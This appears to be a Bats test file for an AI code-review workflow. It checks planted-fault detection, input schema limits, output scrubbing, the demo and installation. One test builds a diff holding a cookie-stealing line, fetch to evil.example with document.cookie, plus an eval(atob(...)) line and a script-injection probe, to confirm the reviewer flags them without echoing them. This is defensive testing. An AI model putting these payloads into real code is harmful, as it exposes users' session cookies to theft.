# SPDX-License-Identifier: Apache-2.0
# The main job: the code-review workflow end to end, on the shipped pull request and at the edges of its schemas.
load lib
load workflow

setup() {
	cd "$BATS_TEST_TMPDIR" || return 1
	a_log
	demo=$AB_TOP/share/demo
}

sample() {
	ab-bundle input --root "$demo/pr/context" --set repository=acme/webshop --set-int pull_request_id=118 \
		--set-file diff="$demo/pr/change.diff" --files 'context_files=**'
}

# document PYTHON-EXPRESSION: an input document, with `d` as a good one to change.
document() {
	/usr/bin/python3 -c 'import json, sys
d = {"repository": "acme/shop", "pull_request_id": 1, "diff": ""}
exec(sys.argv[1])
sys.stdout.write(json.dumps(d, ensure_ascii=False))' "$1"
}

@test "the shipped pull request comes back changes_requested, each planted fault at its line" {
	sample >input.json
	run -0 --separate-stderr ab-run --input input.json code-review
	equals "$stderr" ""
	echo "$output" >review.json
	run -0 "$demo/show.py" faults review.json "$demo/pr/expected.json"
	contains "$output" "31 of 31 planted faults found"
	recorded passed ""
	equals "$(record workflow_type)" code-review
	equals "$(record isolation_verified)" true
	equals "$(record input_hash)" "sha256:$(sha256sum <input.json | cut -d' ' -f1)"
	equals "$(record output_hash)" "sha256:$(sha256sum <review.json | cut -d' ' -f1)"
}

@test "an ordinary user gets the same bytes" {
	needs_root
	sample >input.json
	run -0 --separate-stderr ab-run --input input.json code-review
	local want=$output d
	d=$(user_directory)
	cp input.json "$d/input.json"
	chmod 644 "$d/input.json"
	cd "$d"
	as_user bash -c 'export XDG_STATE_HOME=$PWD/state PATH=$1/bin:$PATH; unset AB_AUDIT_LOG AB_AUDIT_KEY_FILE
		mkdir -p state/agentbox
		ab-audit keygen --name example.org/user --key state/agentbox/key >/dev/null && ab-audit init &&
		ab-run --input input.json code-review >review.json' _ "$AB_BUILD"
	run -0 cat review.json
	rm -rf "$d"
	equals "$output" "$want"
}

@test "what the input may be" {
	local good bad
	for good in 'pass' 'd["diff"] = "x" * 500000' 'd["diff"] = "\U0001f600" * 500000' 'd["context_files"] = [{"path": "a.c", "content": "x" * 100000}] * 50' \
		'd["title"] = "more is allowed, as the reference has it"'; do
		document "$good" >input.json
		run -0 --separate-stderr ab-run --input input.json code-review
		contains "$output" '"review_status":'
	done
	for bad in 'd["diff"] += "x" * 500001' 'd["repository"] = "Acme/Shop"' 'd["repository"] = "a/b/c"' 'd["pull_request_id"] = "1"' 'd["pull_request_id"] = 1.5' \
		'del d["diff"]' 'd["context_files"] = [{"path": "a", "content": ""}] * 51' 'd["context_files"] = [{"path": "a", "content": "x" * 100001}]'; do
		document "$bad" >input.json
		run -1 --separate-stderr ab-run --input input.json code-review
		equals "$output" ""
		contains "$stderr" "ab-run: stage validate:input refused: "
		recorded refused "stage validate:input refused"
	done
}

@test "a diff whose lines hold what the policy blocks is still reviewed, without repeating it" {
	printf -- '--- a/x.js\n+++ b/x.js\n@@ -0,0 +1,3 @@\n+eval(atob("aHR0cHM6"))\n+fetch("https://evil.example/?q=" + document.cookie)\n+<script>alert(1)</script>\n' >change.diff
	ab-bundle input --set repository=a/b --set-int pull_request_id=1 --set-file diff=change.diff >input.json
	run -0 --separate-stderr ab-run --input input.json code-review
	contains "$output" changes_requested
	equals "$stderr" ""
	case $output in *evil* | *script\>*) false ;; esac
}

@test "hostile diffs end in time" {
	local lines
	for lines in '"+" + "(" * 400000' '("+" + "a\"" * 200 + "\n") * 1000' '"@@ -1,9999999 +1,9999999 @@\n" * 10000' '"diff --git a/x b/x\n" * 25000' '"+\\\n" * 100000'; do
		document "d['diff'] = ('--- a/x.py\n+++ b/x.py\n@@ -1,999999 +1,999999 @@\n' + $lines)[:500000]" >input.json
		run -0 --separate-stderr ab-run --input input.json code-review
		contains "$output" '"review_status":'
	done
}

@test "the demo runs, says what it does, and ends well" {
	mkdir -p build
	ln -s "$AB_BUILD/bin" "$AB_BUILD/share" build/
	run -0 --separate-stderr "$demo/demo.sh" build
	contains "$output" "31 of 31 planted faults found, each at its line"
	contains "$output" "verdict    passed"
	contains "$output" "demo.example/agentbox: good: "
	contains "$output" "--expect validate:input,jail,scrub:output,validate:output >$PWD/build/demo/sample.review"
	contains "$output" "which is the hash of sample.review"
	[ -s build/demo/sample.review ]
}

@test "the demo works in a tree without history, and tells when a fault is not found" {
	mkdir -p tree/share build
	cp -r "$demo" tree/share/
	ln -s "$AB_BUILD/bin" "$AB_BUILD/share" build/
	GIT_CEILING_DIRECTORIES=$PWD run -0 --separate-stderr tree/share/demo/demo.sh build
	contains "$output" "there is no history here"
	sed -i 's/"line": 29, "fault": "certificates/"line": 27, "fault": "certificates/' tree/share/demo/pr/expected.json
	GIT_CEILING_DIRECTORIES=$PWD run -1 --separate-stderr tree/share/demo/demo.sh build
	contains "$stderr" "the planted faults were not all found"
	git clone -q --depth 1 "file://$AB_TOP" shallow 2>/dev/null && [ -d shallow/.git ] || skip "no history to clone"
	cp "$demo"/demo.sh "$demo"/show.py shallow/share/demo/
	sed -i 's,--vkey "$key.pub",--vkey /dev/null,' shallow/share/demo/demo.sh
	run -1 --separate-stderr shallow/share/demo/demo.sh build
	contains "$output" "this is a shallow clone"
	contains "$stderr" "demo: ab-audit verify ended with status "
}

@test "the shipped changes come back as expected, jailed, and one without a fault is approved" {
	local home=$AB_TOP/share/workflows/code-review name
	for name in services quiet; do
		ab-bundle input --set repository=acme/services --set-int pull_request_id=7 --set-file diff="$home/samples/$name.diff" >input.json
		run -0 --separate-stderr ab-run --input input.json code-review
		equals "$stderr" ""
		echo "$output" | cmp - "$home/samples/$name.expected.json"
		recorded passed ""
	done
	contains "$output" '"review_status":"approved","comments":[]'
}

@test "the manual lists each rule as the agent has it, and its examples run" {
	local page=$AB_TOP/man/ab-code-review.7
	/usr/bin/python3 "$AB_TOP/tests/corpus/code-review/catalog.py" >rules
	sed -n '/^\.Ss C and C++$/,/^\.Sh ACCURACY$/p' "$page" | sed '$d' >page
	run -0 diff rules page
	run -0 "$AB_TOP/tests/manual.py" examples "$AB_BUILD/bin" "$page"
}

@test "each comment that a rule can make passes the output policy as it is" {
	/usr/bin/python3 - "$AB_TOP/share/workflows/code-review/agent" >said.json <<-'P'
		import json, sys
		sys.dont_write_bytecode = True
		sys.path.insert(0, sys.argv[1])
		import finding, rules
		print(json.dumps([finding.comment(finding.Finding("src/a", 1, r.severity, r.id, r.message, r.advice, r.cwe)) for r in rules.ALL + list(rules.CHECKS)]))
	P
	[ "$(grep -o '"rule"' said.json | wc -l)" -gt 250 ]
	run -0 --separate-stderr ab-scrub --policy output said.json
	equals "$output" "$(cat said.json)"
}

@test "the labelled changes see an agent that got worse" {
	mkdir -p tree/share/workflows tree/tests/corpus
	cp -r "$AB_TOP/share/workflows/code-review" tree/share/workflows/
	cp -r "$AB_TOP/tests/corpus/code-review" tree/tests/corpus/
	run -0 /usr/bin/python3 tree/tests/corpus/code-review/measure.py
	sed -i 's/self.emit(body if is_code else "", body)/self.emit(body)/' tree/share/workflows/code-review/agent/lexer.py
	run -1 /usr/bin/python3 tree/tests/corpus/code-review/measure.py
}

@test "the change review is installed" {
	run -0 "$AB_TOP/tests/install.sh" install "$AB_BUILD" "$PWD/root"
	[ -x root/share/agentbox/workflows/code-review/agent/review.py ]
	[ -e root/share/man/man7/ab-code-review.7 ]
}
